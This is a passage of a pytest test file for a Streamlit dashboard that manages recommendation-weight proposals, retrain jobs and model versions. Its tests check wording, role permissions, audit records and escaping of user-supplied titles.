        and f"The data start on {first_day:%d %b %Y}: decisions made in the 14 days after it" in c.value
        for c in at.caption
    )
    # In points first, from the library's rates; never green (approvers chose what to approve).
    overall = pooled["summary"].set_index(["measure", "group"]).loc[("overall_rate", "approved")]
    moved = (overall["rate_after"] - overall["rate_before"]) * 100
    assert f"{'fell' if moved < 0 else 'rose'} {abs(moved):.1f} points" in verdicts[0]
    assert not at.success
    # One kind of feature alone is another reading.
    at.segmented_control(key="pooled_kind").set_value("genre").run()
    assert not at.exception
    genre = effects.get_pooled_adjustment_effects(own_db, window_days=14, feature_type="genre")
    decisions = int(genre["summary"].drop_duplicates("group").set_index("group").loc["approved", "decisions"])
    assert 0 < decisions < int(counts.loc["approved", "decisions"])
    assert any(c.value.startswith("Only the genre features among the decisions read. ") for c in at.caption)
    assert any(f"{decisions:,} feature" in c.value for c in at.caption)
    at.segmented_control(key="pooled_kind").set_value("every kind").run()
    # Another window is another reading.
    at.segmented_control(key="pooled_window").set_value(7).run()
    assert not at.exception
    verdicts = [m.value for m in (*at.success, *at.info, *at.warning) if "after a rejection" in m.value]
    assert len(verdicts) == 1 and "In the 7 days after an approval" in verdicts[0]


def pooled_reading(approved, rejected, difference, feature=None, exposure=None) -> dict:
    """A ``get_pooled_adjustment_effects`` answer: each group's (rate before, rate after) of
    everything, the approved-against-rejected ``difference`` (value, low, high), and per group
    (before, after, enough before, enough after) of the films' rate and of exposure."""
    rows = []
    for group, overall in (("approved", approved), ("rejected", rejected)):
        for measure, given in (("exposure", exposure), ("feature_rate", feature), ("overall_rate", None)):
            before, after, *enough = (given or {}).get(group) or (*overall, True, True)
            rows.append(
                {
                    "measure": measure,
                    "group": group,
                    "decisions": 50,
                    "people": 30,
                    "measured": 40,
                    "measured_people": 30,
                    **{
                        f"{k}_{side}": v
                        for side in ("before", "after")
                        for k, v in (("events", 50), ("trials", 500))
                    },
                    "rate_before": before,
                    "rate_after": after,
                    "ci_low_before": None,
                    "ci_high_before": None,
                    "ci_low_after": None,
                    "ci_high_after": None,
                    "enough_before": np.bool_(enough[0]),  # as the library's frame holds them
                    "enough_after": np.bool_(enough[1]),
                    "change": after / before - 1,
                    "change_low": None,
                    "change_high": None,
                }
            )
    value, low, high = difference
    return {
        "window_days": 14,
        "decisions_read": 2000,
        "decided_from": datetime(2026, 10, 20),
        "decided_to": datetime(2026, 10, 25),
        "summary": pd.DataFrame(rows),
        "difference": pd.DataFrame(
            [
                {"measure": m, "difference": value, "ci_low": low, "ci_high": high}
                for m in ("exposure", "feature_rate", "overall_rate")
            ]
        ),
    }


def read_pooled(reading: dict) -> tuple[pd.DataFrame, pd.DataFrame]:
    """A reading as the tab reads it: its summary by (measure, group), its differences by measure."""
    return reading["summary"].set_index(["measure", "group"]), reading["difference"].set_index("measure")


@pytest.mark.parametrize(
    "approved, rejected, difference, kind, said, never",
    [
        # Approved people started higher but fell less: no "their larger fall".
        (
            (0.20, 0.19),
            (0.15, 0.10),
            (0.43, 0.10, 0.80),
            "higher",
            "followed by a smaller fall",
            "larger fall",
        ),
        # Both rose, the approved less: a smaller rise, not "a larger fall".
        (
            (0.10, 0.105),
            (0.10, 0.13),
            (-0.19, -0.30, -0.05),
            "lower",
            "followed by a smaller rise",
            "larger fall",
        ),
        # Both fell, the approved more, from higher: the regression to the mean is said.
        (
            (0.20, 0.10),
            (0.15, 0.12),
            (-0.38, -0.5, -0.2),
            "lower",
            "part of their larger fall is that",
            "smaller",
        ),
        # A rate that did not move is not said to have risen 0.0 points.
        (
            (0.10, 0.1001),
            (0.10, 0.12),
            (-0.17, -0.3, -0.05),
            "lower",
            "stayed level (10.0% → 10.0%)",
            "0.0 points",
        ),
    ],
)
def test_the_approvals_headline_says_what_the_rates_did(approved, rejected, difference, kind, said, never):
    from dashboard import wording

    rows, differences = read_pooled(pooled_reading(approved, rejected, difference))
    got, headline = wording.headline(rows, differences, 14)
    assert got == kind and "after a rejection" in headline
    assert said in headline and never not in headline, headline


def test_a_thin_rejected_side_is_not_blamed_on_approved_features_hardly_shown():
    """The approved features' films were measured (their exposure fell, but enough remained):
    the films' rate is missing because the rejected side had too few, and says so."""
    from dashboard import wording

    reading = pooled_reading(
        (0.20, 0.10),
        (0.15, 0.10),
        (-0.25, -0.4, -0.05),
        feature={"approved": (0.10, 0.05, True, True), "rejected": (0.10, 0.10, True, False)},
        exposure={"approved": (0.10, 0.03, True, True), "rejected": (0.10, 0.09, True, True)},
    )
    assert wording.compared(*read_pooled(reading), "feature_rate") == (
        None,
        "too few impressions on one side",
    )
    # The approved side short of films, with its exposure measured: said.
    reading = pooled_reading(
        (0.20, 0.10),
        (0.15, 0.10),
        (-0.25, -0.4, -0.05),
        feature={"approved": (0.10, 0.05, True, False), "rejected": (0.10, 0.10, True, True)},
        exposure={"approved": (0.10, 0.03, True, True), "rejected": (0.10, 0.09, True, True)},
    )
    none, why = wording.compared(*read_pooled(reading), "feature_rate")
    assert none is None and why.startswith("approved features were hardly shown again (exposure -70%)")


def test_adjustments_page_says_how_each_kind_of_proposal_is_decided(own_db):
    """Read only when its tab is open; a kind approvers nearly always reject is named with the
    setting that stops it."""
    inbox = lookups.list_adjustment_inbox(own_db, limit=100_000)
    cast = [int(i) for i in inbox.loc[inbox["feature_type"] == "cast", "adjustment_id"]]
    assert len(cast) >= 80  # enough for a 95% interval below 5% with none approved
    own_db.reject_adjustments(cast, "ops@example.com")
    data.refresh()
    at = open_page("adjustments")
    assert "Proposals waiting" not in {m.label for m in at.metric}
    at.session_state["adjustments_tab"] = "How proposals are decided"
    at.run()
    assert not at.exception
    summary = lookups.get_decision_summary(own_db)
    tiles = {m.label: m.value for m in at.metric}
    assert tiles["Proposals waiting"] == f"{summary['waiting']:,}"
    assert tiles["Waiting over 7 days"] == f"{summary['stale']:,}"
    # Whether approvers keep up: the rejections just made are decisions of the last 7 days.
    recent = summary["recent"]
    assert recent["rejected"] >= len(cast)
    assert tiles["Proposed, last 7 days"] == f"{recent['proposed']:,}"
    assert tiles["Decided, last 7 days"] == f"{recent['approved'] + recent['rejected']:,}"
    assert tiles["Inbox change, last 7 days"] == f"{recent['change']:+,}"
    captions = [c.value for c in at.caption]
    assert wording.decided_recently(recent) in captions and wording.inbox_trend(recent, 7) in captions
    shown = table(at, "reason", "feature", "approved (of decided)", "rejected", "waiting")
    assert len(shown) == len(summary["kinds"])
    row = shown[(shown["reason"] == "poor quality") & (shown["feature"] == "cast")].iloc[0]
    assert row["rejected"] == len(cast) and row["approved (of decided)"].startswith("0.00% (")
    # The kind approved least first, and what share of the approvers' work each kind is.
    assert (shown.iloc[0]["reason"], shown.iloc[0]["feature"]) == ("poor quality", "cast")
    work = table(at, "of all decisions", "waiting")
    assert work["of all decisions"].sum() == pytest.approx(100.0)
    assert any(
        "Approvers reject nearly every poor quality → cast proposal" in i.value
        and "FEEDBACK_CAST_DEEMPHASIS_FACTOR set to 0" in i.value
        for i in at.info
    )


def test_adjustments_page_says_when_nothing_was_decided(shared_db):
    at = open_page("adjustments")
    at.session_state["adjustments_tab"] = "Do approvals work?"
    at.run()
    assert not at.exception
    assert any(
        "Nothing to compare yet: no proposal was approved 14 days ago or earlier" in i.value for i in at.info
    )


def test_retrain_page_shows_progress_inputs_and_history(shared_db):
    at = open_page("retrain")
    assert metric(at, "Untrained examples") == f"{shared_db.get_untrained_negative_feedback_count():,}"
    history = table(at, "job_id", "status", "requested_by")
    assert list(history["status"]) == ["succeeded"]
    comparison = table(at, "metric", "v3")
    assert "AUC (higher is better)" in set(comparison["metric"])


def test_retrain_page_names_the_version_a_candidate_was_compared_with(own_db):
    """A candidate trained before the active version is not offered but named; one trained
    after it against another version keeps, in its comparison, the name of the version it was
    trained against, and the page says which is active now."""
    older = queries.get_retrain_status(own_db)["candidate_version_id"]
    parent = own_db.get_model_version(older)["parent_id"]

    def version(metrics: dict) -> int:
        return add_version(own_db, parent, metrics, weights=own_db.get_active_model_version()["weights"])

    other = version({"auc": 0.9})
    own_db.activate_model_version(other, "ops@example.com")
    at = open_page("retrain")
    assert "promote_candidate" not in {b.key for b in at.button}
    assert any(
        f"v{older}, the newest candidate, was trained before v{other}, the active version" in i.value
        for i in at.info
    )
    candidate = version(own_db.get_model_version(older)["metrics"])
    data.refresh()
    at = open_page("retrain", AppTest.from_file(str(APP), default_timeout=TIMEOUT).run())
    comparison = table(at, "metric", f"v{parent}", f"v{candidate}")
    assert f"v{other}" not in comparison.columns
    assert any(
        f"v{parent}, the version active when it was trained; v{other} is active now" in w.value
        for w in at.warning
    )


def test_users_page_matches_the_pattern_analysis(shared_db):
    at = open_page("users")
    user = int(at.number_input(key="user_id").value)
    patterns = shared_db.get_dislike_pattern_analysis(user)
    assert metric(at, "Dislikes") == f"{patterns['total_dislikes']:,}"
    at.number_input(key="user_id").set_value(1).run()
    assert not at.exception
    assert metric(at, "Dislikes") == f"{shared_db.get_dislike_pattern_analysis(1)['total_dislikes']:,}"
    lists = table(at, "recommendation_set_id", "disliked")
    assert lists["recommendation_set_id"].nunique() == 10
    assert HOSTILE_TITLE in set(lists["title"])
    no_markdown_renders(at, "<script", "**Bold**")


def test_audit_page_renders_empty_and_filled(own_db):
    at = open_page("audit")
    assert any("No audit records" in i.value for i in at.info)
    own_db.approve_adjustment(
        int(lookups.list_adjustment_inbox(own_db, limit=1)["adjustment_id"][0]), "a@b.c"
    )
    data.refresh()  # a write from outside the dashboard shows after the cache's TTL; don't wait
    at = open_page("audit", AppTest.from_file(str(APP), default_timeout=TIMEOUT).run())
    log = table(at, "actor", "action", "outcome")
    assert list(log["action"]) == ["adjustment.approved"] and list(log["actor"]) == ["a@b.c"]


# ---------------------------------------------------------------- one snapshot per page view


@pytest.fixture
def read_transactions(shared_db) -> list:
    """The transactions opened on the sample database by any engine of this process (the app's too)."""
    url = shared_db.engine.url
    opened = []

    def on_begin(conn):
        if conn.engine.url == url:
            opened.append(conn)

    event.listen(Engine, "begin", on_begin)
    yield opened
    event.remove(Engine, "begin", on_begin)


def test_each_page_view_reads_in_one_transaction_and_from_the_cache_in_none(read_transactions):
    at = AppTest.from_file(str(APP), default_timeout=TIMEOUT)
    for page in PAGES:
        data.refresh()
        read_transactions.clear()
        if page == "overview":
            at.run()
        else:
            at.switch_page(f"app_pages/{page}.py").run()
        assert not at.exception, [e.value for e in at.exception]
        assert at.title[0].value != "Welcome: there is no feedback yet", page
        assert len(read_transactions) == 1, page  # every number of the view from one snapshot
        read_transactions.clear()
        at.run()  # the same view again: every answer comes from the cache...
        if page == "retrain":  # ...but what a promotion or a retrain is decided on, read afresh
            assert len(read_transactions) == 1, page
        else:
            assert read_transactions == [], page


def test_an_unsupported_database_url_is_explained(dashboard_env):
    dashboard_env.setenv("FEEDBACK_DB_URL", "mysql://ops:s3cret-pw@db.example/feedback")
    at = AppTest.from_file(str(APP), default_timeout=TIMEOUT).run()
    assert not at.exception, [e.value for e in at.exception]
    assert [e.value for e in at.error] == ["The dashboard's database configuration is invalid."]
    said = at.text[0].value
    assert "mysql is not supported; use postgresql://USER:PASSWORD@HOST:PORT/NAME" in said
    assert "or sqlite:///PATH" in said and "s3cret-pw" not in said


# ---------------------------------------------------------------- actions


def test_an_approval_names_the_magnitude_it_applies_and_keeps_edits_when_more_rows_are_picked(own_db):
    at = open_page("adjustments")
    first, second = (int(i) for i in lookups.list_adjustment_inbox(own_db, limit=2)["adjustment_id"])
    proposed = {i: own_db.get_adjustment(i)["proposed_magnitude"] for i in (first, second)}
    pick(at, [first])
    at.button(key="approve_selected").click().run()
    asked = " ".join(t.value for t in at.text)
    assert f"#{first} at {proposed[first]:+.3f}, as proposed?" in asked  # what it applies, said
    at.button(key="cancel_action").click().run()
    at.number_input(key=f"magnitude_{first}").set_value(-0.3).run()
    # A second row picked: the edit of the first was dropped without a word (and -0.075 applied).
    pick(at, [first, second])
    assert any(f"#{first} · " in t.value and "edited to -0.300" in t.value for t in at.text)
    at.button(key="approve_selected").click().run()
    asked = " ".join(t.value for t in at.text)
    assert f"with the edited magnitudes #{first} -0.300?" in asked
    confirm(at)
    assert own_db.get_adjustment(first)["magnitude"] == -0.3
    assert own_db.get_adjustment(second)["magnitude"] == proposed[second]


def test_an_approval_at_magnitude_0_says_it_changes_no_score(own_db):
    at = open_page("adjustments")
    target = int(lookups.list_adjustment_inbox(own_db, limit=1)["adjustment_id"][0])
    pick(at, [target])
    at.number_input(key=f"magnitude_{target}").set_value(0.0).run()
    at.button(key="approve_selected").click().run()
    asked = " ".join(t.value for t in at.text)
    assert "A magnitude of 0 changes no weight" in asked and "scores change at once" not in asked


def test_an_approval_says_when_its_steps_add_up_on_one_feature(own_db):
    """Three dislikes of Zombie films make three proposals for one person's Zombie: approving
    two says their steps add up and that one more waits; the rows say how many wait."""
    for movie in (901, 902, 903):
        own_db.save_dislike(1, movie, f"Z{movie}", reason="wrong_genre", genres=["Zombie"])
    data.refresh()
    at = open_page("adjustments")
    at.number_input(key="inbox_user").set_value(1).run()
    at.text_input(key="inbox_feature").set_value("Zombie").run()
    shown = table(at, "adjustment_id", "weight_now", "waiting_for_feature")
    assert len(shown) == 3 and set(shown["waiting_for_feature"]) == {3} and set(shown["weight_now"]) == {1.0}
    first, second = sorted(int(i) for i in shown["adjustment_id"])[:2]
    pick(at, [first, second])
    at.button(key="approve_selected").click().run()
    asked = " ".join(t.value for t in at.text)
    assert "2 of them are user 1's genre Zombie: their steps add up (-0.300 together)." in asked
    assert (
        "1 more proposal of the same person and feature waits (user 1's genre Zombie): each applies its own step"
        in asked
    )
    confirm(at)
    shown = table(at, "adjustment_id", "weight_now", "waiting_for_feature")
    assert list(shown["waiting_for_feature"]) == [1] and list(shown["weight_now"]) == [pytest.approx(0.7)]


def test_an_approval_of_a_feature_rejected_before_says_so(own_db):
    for movie in (901, 902):
        own_db.save_dislike(1, movie, f"Z{movie}", reason="wrong_genre", genres=["Zombie"])
    first, second = sorted(
        a["adjustment_id"] for a in own_db.list_adjustments(user_id=1, feature="Zombie", status="proposed")
    )
    own_db.reject_adjustment(first, "ops@example.com", note="the user watches zombie films")
    data.refresh()
    at = open_page("adjustments")
    at.number_input(key="inbox_user").set_value(1).run()
    at.text_input(key="inbox_feature").set_value("Zombie").run()
    assert list(table(at, "adjustment_id", "weight_now")["adjustment_id"]) == [second]
    pick(at, [second])
    at.button(key="approve_selected").click().run()
    asked = " ".join(t.value for t in at.text)
    assert "Rejected before for the same person: user 1's genre Zombie (1 time)." in asked


def test_an_approval_of_several_features_says_where_each_weight_goes(own_db):
    for movie in (901, 902):
        own_db.save_dislike(1, movie, f"Z{movie}", reason="wrong_genre", genres=["Zombie"])
    own_db.save_dislike(1, 903, "V903", reason="wrong_genre", genres=["Vampire"])
    data.refresh()
    at = open_page("adjustments")
    at.number_input(key="inbox_user").set_value(1).run()
    shown = table(at, "adjustment_id", "feature_value")
    ids = {
        v: sorted(int(i) for i in shown.loc[shown["feature_value"] == v, "adjustment_id"])
        for v in ("Zombie", "Vampire")
    }
    pick(at, [*ids["Zombie"], *ids["Vampire"]])
    at.button(key="approve_selected").click().run()
    asked = " ".join(t.value for t in at.text)
    # In the order of the rows (newest first).
    assert "Weights: user 1 genre Vampire 1.000 → 0.850; user 1 genre Zombie 1.000 → 0.700, 2 steps." in asked


def test_the_steps_that_add_up_are_the_ones_applied_and_stop_at_the_weights_limit(own_db):
    """The note sums the magnitudes the approval applies (an edit made on one row before more
    were picked, not the proposed ones) and says where the weight ends: held at its limit, the
    steps "adding up" change nothing."""
    for movie in (901, 902, 903):
        own_db.save_dislike(1, movie, f"Z{movie}", reason="wrong_genre", genres=["Zombie"])
    data.refresh()
    at = open_page("adjustments")
    at.number_input(key="inbox_user").set_value(1).run()
    at.text_input(key="inbox_feature").set_value("Zombie").run()
    first, second, third = sorted(int(i) for i in table(at, "adjustment_id", "weight_now")["adjustment_id"])
    pick(at, [first])
    at.number_input(key=f"magnitude_{first}").set_value(-0.05).run()
    pick(at, [first, second])
    at.button(key="approve_selected").click().run()
    asked = " ".join(t.value for t in at.text)
    assert f"with the edited magnitudes #{first} -0.050" in asked
    assert "their steps add up (-0.200 together)" in asked and "-0.300" not in asked
    assert "Its weight goes from 1.000 to 0.800." in asked
    at.button(key="cancel_action").click().run()
    own_db.approve_adjustment(third, "ops@example.com", magnitude=-1.0)  # the weight: down to 0.1
    data.refresh()
    at.run()
    pick(at, [first, second])
    at.button(key="approve_selected").click().run()
    asked = " ".join(t.value for t in at.text)
    assert "Its weight stays at 0.100, its limit: these steps change no score now." in asked
    assert "held at its lower limit: no score changes now" in asked and "change at once" not in asked


def test_an_approval_that_changes_no_weight_says_so(own_db):
    inbox = lookups.list_adjustment_inbox(own_db, limit=100_000)
    same = inbox.groupby(["user_id", "feature_type", "feature_value"])["adjustment_id"].apply(list)
    earlier, later = next(ids for ids in same if len(ids) >= 2)[:2]
    own_db.approve_adjustment(earlier, "ops@example.com", magnitude=-1.0)  # the weight: down to 0.1
    at = open_page("adjustments")
    pick(at, [later])
    assert any("is already held at 0.10" in w.value for w in at.warning)
    at.button(key="approve_selected").click().run()
    asked = " ".join(t.value for t in at.text)
    assert "Its weight stays at 0.10, its limit: no score changes now." in asked
    assert "scores change at once" not in asked


def test_any_users_applied_adjustments_can_be_reached_to_revert(own_db):
    inbox = lookups.list_adjustment_inbox(own_db, limit=100_000)
    oldest = inbox.iloc[-1]  # proposed first: past the 200 newest of the applied by proposal time
    for i in inbox["adjustment_id"].iloc[:250]:
        own_db.approve_adjustment(int(i), "ops@example.com")
    own_db.approve_adjustment(int(oldest.adjustment_id), "ops@example.com")
    applied = lookups.list_adjustment_inbox(own_db, status="applied", limit=200, by_decision=True)
    assert int(applied["adjustment_id"].iloc[0]) == int(oldest.adjustment_id)  # decided last: first
    at = open_page("adjustments")
    # Any user can be typed, not only those of the rows listed.
    at.selectbox(key="effect_user").set_value(str(int(oldest.user_id))).run()
    effects = table(at, "adjustment_id", "exposure_before")
    assert int(oldest.adjustment_id) in set(effects["adjustment_id"])
    # The rates before and after come first (they were cut off at the right), and so do what
    # a decision rests on in the inbox and the applied list.
    assert list(effects.columns)[:5] == ["adjustment_id", "feature", "magnitude", "before", "after"]
    deciding = ["adjustment_id", "user_id", "feature_type", "feature_value", "reason", "magnitude"]
    deciding += ["evidence_dislikes", "weight_now"]
    assert list(table(at, "adjustment_id", "decided_at").columns)[:8] == deciding
    assert list(table(at, "adjustment_id", "proposed_magnitude").columns)[:9] == [
        *deciding,
        "waiting_for_feature",
    ]
    at.selectbox(key="revert_target").set_value(int(oldest.adjustment_id)).run()
    at.button(key="revert_adjustment").click().run()
    confirm(at)
    assert own_db.get_adjustment(int(oldest.adjustment_id))["status"] == "reverted"
    # The revert says what it changed, as an approval does.
    assert any(
        s.value.replace("\\", "").startswith(
            f"Adjustment {int(oldest.adjustment_id)} reverted (user {int(oldest.user_id)}, "
        )
        and "weight" in s.value
        for s in at.success
    ), [s.value for s in at.success]
    # Typed, as the browser sends a new option: its text (AppTest sets only listed options).
    typed = at.selectbox(key="effect_user")
    typed.options.append("424242")
    typed.set_value("424242").run()
    assert any(i.value == "User 424242 has no applied adjustments." for i in at.info)
    for text in ("²", "99999999999999999999"):  # a digit to isdigit, and past the largest id: crashes
        typed = at.selectbox(key="effect_user")
        typed.options.append(text)
        typed.set_value(text).run()
        assert not at.exception, [e.value for e in at.exception]
        assert any(e.value.startswith("user id must be a positive integer") for e in at.error)


def test_a_decision_asked_on_a_page_left_is_not_asked_on_the_next(own_db):
    at = open_page("adjustments")
    target = int(lookups.list_adjustment_inbox(own_db, limit=1)["adjustment_id"][0])
    pick(at, [target])
    at.button(key="reject_selected").click().run()
    assert any(t.value.startswith(f"Reject adjustment #{target}?") for t in at.text)
    # Another page (the browser's Back button, a link): the dialog followed, naming #{target}.
    open_page("users", at)
    assert not any(t.value.startswith("Reject adjustment") for t in at.text)
    assert any(i.value.startswith("The decision waiting for confirmation on the page") for i in at.info)
    open_page("adjustments", at)
    assert not any(t.value.startswith("Reject adjustment") for t in at.text)
    assert own_db.get_adjustment(target)["status"] == "proposed"


def test_the_inbox_is_as_it_was_left_after_a_look_at_another_page(own_db):
    at = open_page("adjustments")
    user = int(lookups.list_adjustment_inbox(own_db, limit=1)["user_id"][0])
    at.number_input(key="inbox_user").set_value(user).run()
    at.text_input(key="inbox_feature").set_value("genre").run()
    at.number_input(key="inbox_evidence").set_value(1).run()
    at.text_input(key=note_key(at)).set_value("half-typed note").run()
    open_page("users", at)  # to look the person up: the filters and the note were lost
    open_page("adjustments", at)
    assert at.number_input(key="inbox_user").value == user
    assert at.text_input(key="inbox_feature").value == "genre"
    assert at.number_input(key="inbox_evidence").value == 1
    assert at.text_input(key=note_key(at)).value == "half-typed note"
    assert not any("Session State" in w.value for w in at.warning)  # given back before drawn, quietly


def test_approve_one_with_an_edited_magnitude(own_db):
    at = open_page("adjustments")
    target = int(lookups.list_adjustment_inbox(own_db, limit=1)["adjustment_id"][0])
    pick(at, [target])
    at.number_input(key=f"magnitude_{target}").set_value(-0.2).run()
    at.button(key="approve_selected").click().run()
    asked = " ".join(t.value for t in at.text)
    assert "at -0.200 instead of the proposed" in asked and "The user's scores change at once." in asked
    confirm(at)
    decided = own_db.get_adjustment(target)
    assert (decided["status"], decided["magnitude"], decided["decided_by"]) == (
        "applied",
        -0.2,
        "ops@example.com",
    )
    [record] = audit_rows(own_db, "adjustment.approved")
    assert record.actor == "ops@example.com" and record.entity_id == str(target)
    assert any(f"Adjustment {target} approved" in s.value for s in at.success)
    assert target not in set(
        table(at, "adjustment_id", "evidence_dislikes")["adjustment_id"]
    )  # cache refreshed


def test_reject_several_with_a_note_and_cancel_changes_nothing(own_db):
    at = open_page("adjustments")
    targets = [int(i) for i in lookups.list_adjustment_inbox(own_db, limit=2)["adjustment_id"]]
    pick(at, targets)
    at.button(key="reject_selected").click().run()
    at.button(key="cancel_action").click().run()
    assert all(own_db.get_adjustment(t)["status"] == "proposed" for t in targets)
    at.text_input(key=note_key(at)).input("user likes these after all").run()
    at.button(key="reject_selected").click().run()
    confirm(at)
    for t in targets:
        decided = own_db.get_adjustment(t)
        assert (decided["status"], decided["note"], decided["decided_by"]) == (
            "rejected",
            "user likes these after all",
            "ops@example.com",
        )
    assert len(audit_rows(own_db, "adjustment.rejected")) == 2


def test_the_retrain_page_shows_a_candidate_trained_elsewhere_at_the_next_view(own_db):
    # A retrain by the CLI or a worker while the page is open: the next view shows its job and its
    # candidate (the one a promotion is then checked against), not the cached ones of a minute ago.
    at = open_page("retrain")
    done = own_db.retrain("cli")
    version = own_db.get_model_version(done["result_version_id"])
    assert version["status"] == "candidate"
    at.run()  # no cache refresh: what the page decides on is read afresh
    assert table(at, "job_id", "status", "requested_by").iloc[0]["job_id"] == done["job_id"]
    assert at.button(key="promote_candidate").label == f"Promote v{version['version_id']}"


def test_start_a_retrain_then_see_it_finish(own_db):
    at = open_page("retrain")
    at.button(key="start_retrain").click().run()
    confirm(at)
    with own_db.engine.connect() as conn:
        [job] = conn.execute(select(retrain_jobs).where(retrain_jobs.c.status == "queued")).all()
    assert (job.requested_by, job.trigger) == ("ops@example.com", "manual")
    assert [r.actor for r in audit_rows(own_db, "retrain.queued")] == ["ops@example.com"]
    assert at.button(key="start_retrain").disabled  # one at a time
    assert any(f"Job {job.job_id}: queued" in p.proto.text for p in at.get("progress"))
    assert own_db.run_worker(once=True) == 1
    at.run()
    assert not at.exception
    assert said(at.success, f"Retrain job {job.job_id} succeeded", "v4")
    history = table(at, "job_id", "status", "requested_by")
    assert history.iloc[0]["job_id"] == job.job_id and history.iloc[0]["status"] == "succeeded"


def test_after_a_rollback_the_comparison_sets_the_active_against_what_it_replaced(own_db):
    assert own_db.get_active_model_version()["version_id"] == 2
    own_db.activate_model_version(3, "ops@example.com")
    own_db.activate_model_version(2, "ops@example.com")  # rolled back from v3
    at = open_page("versions")
    # Its parent (v1) was offered as the baseline, and a green verdict over it read as news.
    assert (at.selectbox(key="compare_a").value, at.selectbox(key="compare_b").value) == (3, 2)


def test_version_a_follows_its_default_when_an_activation_changes_it_for_the_same_b(own_db):
    """A baseline nobody picked follows B's default: after a rollback to the B shown, A is what
    B replaced (as a reload shows), not the parent it was before; one picked by hand stays."""
    at = open_page("versions")
    assert (at.selectbox(key="compare_a").value, at.selectbox(key="compare_b").value) == (1, 2)
    own_db.activate_model_version(3, "ops@example.com")
    own_db.activate_model_version(2, "ops@example.com")  # rolled back from v3
    data.refresh()
    at.run()
    assert (at.selectbox(key="compare_a").value, at.selectbox(key="compare_b").value) == (3, 2)
    at.selectbox(key="compare_a").set_value(1).run()  # by hand
    own_db.activate_model_version(3, "ops@example.com")
    own_db.activate_model_version(2, "ops@example.com")
    data.refresh()
    at.run()
    assert (at.selectbox(key="compare_a").value, at.selectbox(key="compare_b").value) == (1, 2)


def test_activate_a_version_then_roll_back(own_db):
    at = open_page("versions")
    # Offered first: the version that served last before the active one (v1), not the newest.
    assert at.selectbox(key="activate_target").value == 1
    at.selectbox(key="activate_target").set_value(3).run()
    at.button(key="activate_version").click().run()
    confirm(at)
    assert own_db.get_active_model_version()["version_id"] == 3
    assert [(r.actor, r.entity_id) for r in audit_rows(own_db, "model.activated")] == [
        ("ops@example.com", "3")
    ]
    assert at.selectbox(key="activate_target").value == 2  # v2 served before v3
    assert at.button(key="activate_version").label == "Roll back to v2"
    at.button(key="activate_version").click().run()
    confirm(at)
    assert own_db.get_active_model_version()["version_id"] == 2
    assert [r.entity_id for r in audit_rows(own_db, "model.rollback")] == ["2"]


def test_the_role_is_checked_when_the_action_runs(own_db, dashboard_env):
    at = open_page("versions")
    at.selectbox(key="activate_target").set_value(3).run()
    at.button(key="activate_version").click().run()
    dashboard_env.setenv("FEEDBACK_OPERATOR_ROLES", "viewer,approver")  # admin revoked meanwhile
    confirm(at)
    assert own_db.get_active_model_version()["version_id"] == 2
    assert any("may not model activate" in e.value for e in at.error)
    [denied] = [r for r in audit_rows(own_db, "model.activate") if r.outcome == "denied"]
    assert denied.actor == "ops@example.com"
    assert at.button(key="activate_version").disabled  # and the button now says so
    with own_db.engine.connect() as conn:
        assert (
            conn.execute(
                select(model_versions.c.version_id).where(model_versions.c.status == "active")
            ).scalar()
            == 2
        )


def test_a_viewer_sees_disabled_actions(shared_db, dashboard_env):
    dashboard_env.setenv("FEEDBACK_OPERATOR_ROLES", "viewer")
    at = open_page("adjustments")
    pick(at, [int(lookups.list_adjustment_inbox(shared_db, limit=1)["adjustment_id"][0])])
    assert at.button(key="approve_selected").disabled and at.button(key="reject_selected").disabled
    # Each says which role it needs.
    assert at.button(key="approve_selected").help == (
        "This needs the admin or approver role, which you do not have; ask an admin."
    )
    at = open_page("retrain", at)
    assert at.button(key="start_retrain").disabled
    assert (
        at.button(key="start_retrain").help
        == "This needs the admin role, which you do not have; ask an admin."
    )


def stale_job(system: FeedbackSystem) -> int:
    """Insert a running job whose worker, on another host, has been silent for hours."""
    hours_ago = system.now() - timedelta(hours=5)
    with system.engine.begin() as conn:
        return conn.execute(
            insert(retrain_jobs)
            .values(
                status="running",
                active_slot=1,
                trigger="manual",
                requested_by="someone@example.com",
                created_at=hours_ago,
                started_at=hours_ago,
                progress=40,
                stage="training",
                worker_id="worker-host-b:4242",
                heartbeat_at=hours_ago,
                examples_claimed=0,
            )
            .returning(retrain_jobs.c.job_id)
        ).scalar_one()


def test_a_job_whose_worker_died_is_failed_when_the_retrain_page_opens(own_db):
    job_id = stale_job(own_db)
    at = open_page("retrain")
    assert own_db.get_retrain_job(job_id)["status"] == "failed"
    # The request stands: it is queued again, once.
    again = own_db.list_retrain_jobs(limit=1)[0]
    assert (again["job_id"], again["status"], again["trigger"]) == (job_id + 1, "queued", "retry")
    assert said(
        at.warning, f"Retrain job {job_id}", "worker-host-b:4242", f"queued again as job {job_id + 1}"
    )
    assert not any(f"Job {job_id}" in p.proto.text for p in at.get("progress"))
    at.run()
    assert not at.warning  # said once
    # A worker that dies while the page watches: the page still shows the job as it was (queued).
    with own_db.engine.begin() as conn:
        conn.execute(
            update(retrain_jobs)
            .where(retrain_jobs.c.active_slot == 1)
            .values(
                status="running",
                worker_id="worker-host-b:4242",
                heartbeat_at=own_db.now() - timedelta(hours=1),
            )
        )
    at.run()
    # A retry that stopped too is not queued again (a run that kills its worker would loop).
    assert own_db.get_retrain_job(job_id + 1)["status"] == "failed"
    assert own_db.list_retrain_jobs(limit=1)[0]["job_id"] == job_id + 1
    assert said(at.warning, "was marked failed", "worker-host-b:4242", "You can start another retrain.")
    assert not at.button(key="start_retrain").disabled


def test_a_job_that_fails_while_the_page_watches_says_why(own_db):
    at = open_page("retrain")
    at.button(key="start_retrain").click().run()
    confirm(at)
    with own_db.engine.begin() as conn:  # what a worker records when training raises
        job_id = conn.execute(select(retrain_jobs.c.job_id).where(retrain_jobs.c.active_slot == 1)).scalar()
        conn.execute(
            update(retrain_jobs)
            .where(retrain_jobs.c.job_id == job_id)
            .values(status="failed", active_slot=None, stage="failed", error="training failed: no positives")
        )
    at.run()
    assert not at.exception
    assert said(at.error, f"Retrain job {job_id} failed", "training failed: no positives")
    assert not at.button(key="start_retrain").disabled


def test_activation_refuses_when_the_active_version_changed_meanwhile(own_db):
    at = open_page("versions")
    at.selectbox(key="activate_target").set_value(3).run()
    at.button(key="activate_version").click().run()
    assert "It replaces v2" in " ".join(t.value for t in at.text)
    own_db.activate_model_version(1, "other@example.com")  # another admin rolls back meanwhile
    confirm(at)
    assert own_db.get_active_model_version()["version_id"] == 1
    assert said(at.error, "version 1 is active, where version 2 was expected", "nothing changed")
    assert not said(at.success, "now the active model version")
    assert [r.actor for r in audit_rows(own_db, "model.activated")] == []
